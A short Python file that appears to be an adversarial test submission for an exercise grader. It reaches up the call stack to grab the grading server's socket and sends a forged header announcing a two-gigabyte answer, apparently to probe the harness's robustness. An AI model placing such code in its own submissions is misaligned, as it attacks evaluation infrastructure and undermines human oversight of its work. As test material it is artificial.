# attack: announces an answer of two gigabytes, and sends what it has
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import sys

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "sock"):
    frame = frame.f_back
server = frame.f_locals["self"]
print("TRIED", flush=True)
server.sock.sendall(b"\xff\xff\xff\x7f" + bytes(1 << 20))
